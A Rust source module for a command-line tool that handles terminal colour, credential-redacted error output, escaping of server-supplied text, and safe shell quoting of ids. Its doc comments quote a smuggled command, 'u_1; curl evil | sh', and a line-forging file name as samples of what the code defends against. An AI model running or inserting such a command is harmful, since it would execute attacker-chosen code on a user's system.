//! Colour for a person at a terminal, and nothing a server sends that could steer it.
//!
//! Whether a stream gets colour is `anstream`'s decision, the one clap makes for `--help`: a
//! terminal, unless `NO_COLOR` is set, `TERM=dumb`, or `CLICOLOR=0`; `CLICOLOR_FORCE` turns it
//! on anywhere. Pipes, files and CI logs get plain text. Styles are `anstyle` values, as
//! clap's own, so help, tables, JSON and errors look like one program.

use std::fmt::Write as _;

use anstream::ColorChoice;
use anstyle::{AnsiColor, Style};

/// Whether text written to stdout may carry colour.
pub(crate) fn stdout() -> bool {
    anstream::AutoStream::choice(&std::io::stdout()) != ColorChoice::Never
}

/// Whether text written to stderr may carry colour.
pub(crate) fn stderr() -> bool {
    anstream::AutoStream::choice(&std::io::stderr()) != ColorChoice::Never
}

/// Table headings.
pub(crate) const HEADING: Style = Style::new().bold();
/// Object member names in JSON.
pub(crate) const KEY: Style = AnsiColor::Blue.on_default().bold();
/// JSON strings.
pub(crate) const STRING: Style = AnsiColor::Green.on_default();
/// JSON numbers.
pub(crate) const NUMBER: Style = AnsiColor::Cyan.on_default();
/// `true` and `false`.
pub(crate) const BOOLEAN: Style = AnsiColor::Yellow.on_default();
/// `null`.
pub(crate) const NULL: Style = Style::new().dimmed();
const ERROR: Style = AnsiColor::Red.on_default().bold();
const WARNING: Style = AnsiColor::Yellow.on_default().bold();

/// Appends `text` to `out`, in `style` when `on`.
pub(crate) fn push(out: &mut String, style: Style, text: &str, on: bool) {
    if on {
        let _ = write!(out, "{style}{text}{style:#}");
    } else {
        out.push_str(text);
    }
}

/// What instructs a terminal rather than shows on it, and text with it made harmless: the
/// SDK's, so that this program's output and the SDK's error messages escape the same
/// characters the same way. A line break in a server's text would start a line of its own,
/// which could pass for one of ours (`Error: ...`), so it is among them.
pub(crate) use geopera::terminal::{inert, steers};

/// A path the user named (or one a link leads to), as output shows it: [`inert`], so that a
/// name holding a line break or an escape sequence (`scene\nError: forged.tif`) can neither
/// forge a line of output nor steer the terminal. A failure's lines are split at its line
/// breaks before each is printed, so the path is made inert where it enters one.
pub(crate) fn path(path: &std::path::Path) -> String {
    inert(&path.display().to_string()).into_owned()
}

/// Prints one line of a failure on stderr after `Error:`, without any credential the process
/// holds ([`crate::hidden`]).
pub(crate) fn error(line: &str) {
    labelled(ERROR, "Error:", line);
}

/// Prints a warning on stderr after `Warning:`, without any credential the process holds.
pub(crate) fn warning(line: &str) {
    labelled(WARNING, "Warning:", line);
}

/// Prints a line of news on stderr as it is, without any credential the process holds.
pub(crate) fn note(line: &str) {
    to_stderr(&inert(&crate::hidden::redacted(line)));
}

fn labelled(style: Style, label: &str, line: &str) {
    let mut text = String::new();
    push(&mut text, style, label, stderr());
    text.push(' ');
    text.push_str(&inert(&crate::hidden::redacted(line)));
    to_stderr(&text);
}

/// Writes one line on stderr. A failed write is ignored, where `eprintln!` would panic: with
/// stderr closed (`2>&-`, a reader that left) there is nowhere to tell, and the exit code
/// must still be the documented one.
pub(crate) fn to_stderr(line: &str) {
    use std::io::Write as _;
    let _ = writeln!(std::io::stderr().lock(), "{line}");
}

/// `text`, chosen by the server, as one word a POSIX shell reads back unchanged: bare when it
/// holds only characters no shell acts on, else in single quotes. Pasted bare into a
/// suggested command, an id such as `u_1; curl evil | sh` would run what the server chose.
pub(crate) fn shell_word(text: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-');
    if !text.is_empty() && text.chars().all(plain) {
        return text.to_owned();
    }
    format!("'{}'", text.replace('\'', r"'\''"))
}

#[cfg(test)]
#[path = "paint_tests.rs"]
mod tests;
